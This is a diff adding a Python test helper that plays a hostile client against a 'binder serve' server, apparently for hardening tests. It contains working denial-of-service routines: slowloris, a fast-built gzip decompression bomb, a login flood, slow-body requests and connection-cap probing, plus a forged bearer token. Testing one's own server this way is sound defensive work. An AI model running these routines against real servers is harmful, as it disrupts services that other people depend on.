@@ -1,0 +1,257 @@
+#!/usr/bin/env python3
+"""What a hostile client does to `binder serve`, for ServerHardeningTests and scripts/bench.
+Every loop is bounded in count and time and stops by itself; only loopback addresses are used.
+
+usage:
+  server_attacks.py slowloris HOST PORT COUNT SECONDS REPORT SOURCE...
+      Keeps COUNT connections open from the SOURCE addresses (round robin), each sending a
+      header line a second and never finishing its request; reconnects those the server
+      closes, for SECONDS. Writes "open N" lines to REPORT as it goes, then a JSON summary.
+  server_attacks.py bomb URL MEGABYTES TOKEN [SERVICE]
+      POSTs a gzip body that inflates to MEGABYTES MiB of zeros (TOKEN: a file, "none" or
+      "bogus"); prints the HTTP status, or "reset" if the server cut the connection first.
+  server_attacks.py post URL BODY TOKEN [ENCODING]
+      POSTs BODY (a number: that many zero bytes; text:T: the text T) plain or gzip;
+      prints the status or "reset".
+  server_attacks.py logins HOST PORT COUNT SOURCE [PATH]
+      POSTs COUNT login challenges (or `{}` to PATH) from SOURCE; prints the statuses.
+  server_attacks.py slowbody URL TOKEN SECONDS [LENGTH]
+      Starts a POST of LENGTH bytes (default 100,000), sends 10 of them, then waits up to SECONDS for the
+      server to close the connection; prints "closed" or "open".
+  server_attacks.py cap HOST PORT COUNT SOURCE
+      Opens COUNT silent connections from SOURCE and prints how many the server closed within
+      a second (those past its per-address cap).
+"""
+import functools
+import gzip
+import http.client
+import json
+import selectors
+import signal
+import socket
+import struct
+import sys
+import time
+import urllib.parse
+import zlib
+
+
+def token_header(token):
+    if token == "none":
+        return {}
+    if token == "bogus":
+        return {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJwdWJrZXkiOiJ4In0.Zm9yZ2Vk"}
+    with open(token, encoding="utf-8") as f:
+        return {"Authorization": "Bearer " + f.read().strip()}
+
+
+def send(url, body_chunks, headers):
+    """POSTs the chunks (Content-Length known); returns the status or "reset"."""
+    parts = urllib.parse.urlsplit(url)
+    total = sum(len(c) for c in body_chunks)
+    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
+    try:
+        connection.putrequest("POST", parts.path + ("?" + parts.query if parts.query else ""))
+        for name, value in headers.items():
+            connection.putheader(name, value)
+        connection.putheader("Content-Length", str(total))
+        connection.endheaders()
+        try:
+            for chunk in body_chunks:
+                connection.send(chunk)
+        except (BrokenPipeError, ConnectionResetError):
+            pass  # the server stopped reading: its answer may still be there
+        response = connection.getresponse()
+        response.read()
+        return str(response.status)
+    except (BrokenPipeError, ConnectionResetError, http.client.RemoteDisconnected, socket.timeout):
+        return "reset"
+    finally:
+        connection.close()
+
+
+@functools.lru_cache(maxsize=4)
+def bomb_chunks(megabytes):
+    """A valid gzip stream of MEGABYTES MiB of zeros, about 1 KiB per MiB. One MiB is deflated
+    once and ended with a full flush (which resets the compressor), so the same bytes stand for
+    every MiB: a gigabyte's bomb is made in about a second."""
+    block = bytes(1 << 20)
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    once = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
+    end = compressor.flush(zlib.Z_FINISH)
+    crc = 0
+    for _ in range(megabytes):
+        crc = zlib.crc32(block, crc)
+    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
+    trailer = struct.pack("<II", crc, (megabytes << 20) & 0xFFFFFFFF)
+    return tuple([header] + [once] * megabytes + [end, trailer])
+
+
+def bomb(url, megabytes, token, service="git-upload-pack"):
+    headers = {"Content-Encoding": "gzip", "Content-Type": "application/x-%s-request" % service}
+    headers.update(token_header(token))
+    return send(url, bomb_chunks(megabytes), headers)
+
+
+def post(url, body, token, encoding="plain"):
+    body = body[5:].encode() if body.startswith("text:") else bytes(int(body))
+    headers = token_header(token)
+    if encoding == "gzip":
+        body = gzip.compress(body)
+        headers["Content-Encoding"] = "gzip"
+    return send(url, [body[i:i + 65536] for i in range(0, len(body), 65536)], headers)
+
+
+def logins(host, port, count, source, path="/api/auth/nostr/challenge"):
+    statuses = []
+    for _ in range(count):
+        connection = http.client.HTTPConnection(host, port, timeout=30, source_address=(source, 0))
+        try:
+            connection.request("POST", path, body=b"{}", headers={"Content-Type": "application/json"})
+            response = connection.getresponse()
+            response.read()
+            statuses.append(str(response.status))
+        except (ConnectionResetError, http.client.RemoteDisconnected):
+            statuses.append("reset")
+        finally:
+            connection.close()
+    return " ".join(statuses)
+
+
+def slowbody(url, token, seconds, length=100000):
+    parts = urllib.parse.urlsplit(url)
+    s = socket.create_connection((parts.hostname, parts.port), timeout=5)
+    headers = "".join("%s: %s\r\n" % item for item in token_header(token).items())
+    s.sendall(("POST %s HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n\r\n"
+               % (parts.path, parts.hostname, headers, length)).encode() + bytes(10))
+    s.settimeout(seconds)
+    try:
+        while s.recv(4096):
+            pass  # an answer may come before the close
+        return "closed"
+    except socket.timeout:
+        return "open"
+    except OSError:
+        return "closed"
+    finally:
+        s.close()
+
+
+def cap(host, port, count, source):
+    sockets = []
+    for _ in range(count):
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.bind((source, 0))
+        s.settimeout(5)
+        s.connect((host, port))
+        sockets.append(s)
+    time.sleep(1)
+    closed = 0
+    for s in sockets:
+        s.setblocking(False)
+        try:
+            if s.recv(1) == b"":
+                closed += 1
+        except BlockingIOError:
+            pass
+        except OSError:
+            closed += 1
+        s.close()
+    return closed
+
+
+def slowloris(host, port, count, seconds, report_path, sources):
+    selector = selectors.DefaultSelector()
+    open_sockets = {}
+    summary = {"opened": 0, "refused": 0, "closed_by_server": 0, "max_open": 0}
+    next_source = 0
+    report = open(report_path, "w", buffering=1)
+    deadline = time.monotonic() + seconds
+
+    def connect():
+        nonlocal next_source
+        source = sources[next_source % len(sources)]
+        next_source += 1
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        try:
+            s.bind((source, 0))
+            s.settimeout(5)
+            s.connect((host, port))
+            s.sendall(b"GET /api/mgit/user/repositories HTTP/1.1\r\nHost: %s\r\n" % host.encode())
+            s.setblocking(False)
+        except OSError:
+            s.close()
+            summary["refused"] += 1
+            return
+        summary["opened"] += 1
+        open_sockets[s.fileno()] = s
+        selector.register(s, selectors.EVENT_READ)
+
+    def drop(s, by_server):
+        selector.unregister(s)
+        del open_sockets[s.fileno()]
+        s.close()
+        if by_server:
+            summary["closed_by_server"] += 1
+
+    stopping = []
+    signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))   # stop early, still report
+    last_trickle = 0.0
+    attempts = 0
+    while time.monotonic() < deadline and not stopping:
+        # Top up, at most COUNT new connections a round and 20 * COUNT in all (bounded).
+        missing = count - len(open_sockets)
+        for _ in range(missing):
+            if attempts >= 20 * count:
+                break
+            attempts += 1
+            connect()
+        summary["max_open"] = max(summary["max_open"], len(open_sockets))
+        report.write("open %d\n" % len(open_sockets))
+        for key, _ in selector.select(timeout=0.2):
+            s = key.fileobj
+            try:
+                data = s.recv(4096)
+            except (ConnectionResetError, BlockingIOError, OSError):
+                data = b""
+            if not data:
+                drop(s, True)
+        if time.monotonic() - last_trickle >= 1:
+            last_trickle = time.monotonic()
+            for s in list(open_sockets.values()):
+                try:
+                    s.send(b"X-Slow: 1\r\n")
+                except (BlockingIOError, InterruptedError):
+                    pass
+                except OSError:
+                    drop(s, True)
+    for s in list(open_sockets.values()):
+        drop(s, False)
+    report.write(json.dumps(summary) + "\n")
+    report.close()
+    return summary
+
+
+def main(argv):
+    command = argv[1]
+    if command == "slowloris":
+        host, port, count, seconds, report = argv[2], int(argv[3]), int(argv[4]), float(argv[5]), argv[6]
+        print(json.dumps(slowloris(host, port, count, seconds, report, argv[7:])))
+    elif command == "bomb":
+        print(bomb(argv[2], int(argv[3]), argv[4], *(argv[5:6])))
+    elif command == "post":
+        print(post(argv[2], argv[3], argv[4], *(argv[5:6])))
+    elif command == "logins":
+        print(logins(argv[2], int(argv[3]), int(argv[4]), argv[5], *(argv[6:7])))
+    elif command == "slowbody":
+        print(slowbody(argv[2], argv[3], float(argv[4]), *[int(a) for a in argv[5:6]]))
+    elif command == "cap":
+        print(cap(argv[2], int(argv[3]), int(argv[4]), argv[5]))
+    else:
+        print(__doc__, file=sys.stderr)
+        return 2
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
